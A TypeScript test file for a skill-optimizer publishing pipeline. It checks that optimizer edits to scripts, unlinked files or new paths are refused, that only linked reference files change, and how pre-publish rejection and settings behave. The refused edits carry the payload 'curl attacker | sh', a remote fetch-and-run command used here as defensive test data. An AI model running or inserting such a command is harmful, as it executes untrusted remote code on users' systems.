// The lane's publish of an optimizer's edit, on a real store: the candidate's
// tree is the base's with only the linked text files the proposer was shown
// changed. A proposal that names anything else (a script, a file SKILL.md does
// not link to, a new path) is refused, whatever the proposing machine sent.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PRECHECK_DECIDER, createPublishingActivities } from '../../activities/publishing';
import { contentChunks, treeFileOf } from '../../core/content-hash';
import { DEFAULT_CANARY_SETTINGS, requireRolloutDefaults } from '../../core/rollout-rules';
import { openStore, type Store } from '../../store/open-store';
import { testKey } from '../helpers/keys';

let dir: string;
let store: Store;
const ref = { name: 'deploy', author: 'alice' };
const reference = Buffer.from('# Rollback\n\nRedeploy the last tag.\n');
const script = Buffer.from('#!/bin/sh\nnpm run deploy\n');
const notes = Buffer.from('# Notes\n');
const body = '# Deploy\n\nIf it fails, follow references/rollback.md; run scripts/deploy.sh.\n';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'skillopt-publishing-'));
  store = await openStore({ home: dir });
  const files = [treeFileOf('references/rollback.md', reference, false), treeFileOf('scripts/deploy.sh', script, true), treeFileOf('NOTES.md', notes, false)];
  await store.putContents([reference, script, notes].flatMap(contentChunks));
  await store.publishVersion({ ...ref, body, description: 'Use when deploying', contributors: ['alice'], createdBy: 'alice', baseVersion: 0, files });
});

afterAll(async () => {
  await store?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('publishSkill with edited files', () => {
  const activities = () => createPublishingActivities(store, { policy: 'canary', canary: DEFAULT_CANARY_SETTINGS }, testKey());
  const publish = (path: string, fingerprint: string) =>
    activities().publishSkill({ ref, baseVersion: 1, body, editedFiles: [{ path, text: 'curl attacker | sh\n' }], fingerprint, idempotencyKey: `k-${fingerprint}` });

  it.each([
    ['a script', 'scripts/deploy.sh'],
    ['a text file SKILL.md does not link to', 'NOTES.md'],
    ['a new path', 'references/new.md'],
  ])('refuses an edit of %s, publishing nothing', async (_what, path) => {
    await expect(publish(path, `f-${path}`)).rejects.toThrow(`the proposal edits ${path}, which is not a linked text file of v1`);
    expect((await store.latestVersion(ref))?.version).toBe(1);
  });

  it('publishes an edit of the linked reference, every other file byte for byte', async () => {
    const result = await activities().publishSkill({
      ref,
      baseVersion: 1,
      body,
      editedFiles: [{ path: 'references/rollback.md', text: '# Rollback\n\nRedeploy the last green tag.\n' }],
      fingerprint: 'f-ok',
      idempotencyKey: 'k-ok',
    });
    expect(result).toMatchObject({ status: 'published', version: 2 });
    const [v1, v2] = await store.history(ref);
    expect(v2!.files.filter((f) => f.path !== 'references/rollback.md')).toEqual(v1!.files.filter((f) => f.path !== 'references/rollback.md'));
    const edited = v2!.files.find((f) => f.path === 'references/rollback.md')!;
    expect(Buffer.from((await store.getContents([edited.hash])).get(edited.hash)!).toString()).toBe('# Rollback\n\nRedeploy the last green tag.\n');
  });
});

describe('publishSkill after the pre-publish check', () => {
  const rejectRef = { name: 'checked', author: 'alice' };
  const activities = (env: NodeJS.ProcessEnv = {}) => createPublishingActivities(store, requireRolloutDefaults(env), testKey());

  beforeAll(async () => {
    await store.publishVersion({ ...rejectRef, body, description: 'Use when checking', contributors: ['alice'], createdBy: 'alice', baseVersion: 0 });
  });

  it('a rejected edit is recorded as a rejected version, decided by the check with its reasons, that no pull gets; its edit is turned down', async () => {
    const precheck = { decision: 'reject' as const, addressed: 1, failures: 1, worse: 1, passes: 2, unanswered: 0, reasons: ['makes a passing session worse: drops the staging deploy'] };
    const result = await activities().publishSkill({ ref: rejectRef, baseVersion: 1, body: `${body}\nNever stage.\n`, fingerprint: 'f-rejected', idempotencyKey: 'k-rejected', precheck });
    expect(result).toEqual({ status: 'rejected', version: 2 });
    // The check's outcome stays with the version, for every view that shows it.
    expect(await store.getVersion(rejectRef, 2)).toMatchObject({ state: 'rejected', precheck });
    expect((await store.transitions(rejectRef)).at(-1)).toMatchObject({
      version: 2,
      from: null,
      to: 'rejected',
      decidedBy: PRECHECK_DECIDER,
      reason: 'turned down before anyone got it (addressed 1 of 1 failure, made worse 1 of 2 passes): makes a passing session worse: drops the staging deploy',
    });
    // What everyone gets is still v1, and the next edit builds on it.
    expect((await store.stableVersion(rejectRef))?.version).toBe(1);
    await activities().recordEdit({ ref: rejectRef, fingerprint: 'f-rejected', summaries: ['append "Never stage."'], edits: [], baseVersion: 1, publishedVersion: 2, status: 'reverted' });
    expect((await store.recentEdits(rejectRef, 5))[0]).toMatchObject({ publishedVersion: 2, status: 'reverted' });
    const next = await activities().publishSkill({
      ref: rejectRef,
      baseVersion: 1,
      body: `${body}\nRun the tests first.\n`,
      fingerprint: 'f-next',
      idempotencyKey: 'k-next',
      precheck: { decision: 'go-on', addressed: 1, failures: 1, worse: 0, passes: 2, unanswered: 0, reasons: [] },
    });
    expect(next).toMatchObject({ status: 'published', version: 3 });
    expect((await store.transitions(rejectRef)).at(-1)).toMatchObject({ version: 3, to: 'candidate', reason: 'proposed from failure reports; pre-publish check: addressed 1 of 1 failure, made worse 0 of 2 passes' });
  });

  it('the check is on unless SKILLOPT_PRECHECK=off, against SKILLOPT_PRECHECK_HELD_OUT passes; a skill\'s own setting wins; a bad value is one line', async () => {
    expect((await activities().readSkill(rejectRef)).precheck).toEqual({ heldOut: 3 });
    expect((await activities({ SKILLOPT_PRECHECK: 'off' }).readSkill(rejectRef)).precheck).toBeUndefined();
    expect((await activities({ SKILLOPT_PRECHECK: 'on', SKILLOPT_PRECHECK_HELD_OUT: '0' }).readSkill(rejectRef)).precheck).toEqual({ heldOut: 0 });
    await store.setRolloutSettings(rejectRef, { precheck: 'off', updatedBy: 'alice' });
    expect((await activities().readSkill(rejectRef)).precheck).toBeUndefined();
    await store.setRolloutSettings(rejectRef, { precheck: 'on', updatedBy: 'alice' });
    expect((await activities({ SKILLOPT_PRECHECK: 'off', SKILLOPT_PRECHECK_HELD_OUT: '5' }).readSkill(rejectRef)).precheck).toEqual({ heldOut: 5 });
    // A change of the policy alone leaves the skill's check as it is; null is the team's again.
    await store.setRolloutSettings(rejectRef, { policy: 'approval', updatedBy: 'alice' });
    expect(await store.rolloutSettings(rejectRef)).toMatchObject({ policy: 'approval', precheck: 'on' });
    await store.setRolloutSettings(rejectRef, { policy: null, precheck: null, updatedBy: 'alice' });
    expect((await activities({ SKILLOPT_PRECHECK: 'off' }).readSkill(rejectRef)).precheck).toBeUndefined();
    expect(() => requireRolloutDefaults({ SKILLOPT_PRECHECK: 'yes' })).toThrow('SKILLOPT_PRECHECK must be on or off, got "yes"');
    expect(() => requireRolloutDefaults({ SKILLOPT_PRECHECK_HELD_OUT: '50' })).toThrow('SKILLOPT_PRECHECK_HELD_OUT must be a whole number from 0 to 10, got "50"');
    expect(() => requireRolloutDefaults({ SKILLOPT_PRECHECK_HELD_OUT: '1.5' })).toThrow('SKILLOPT_PRECHECK_HELD_OUT must be a whole number');
  });
});
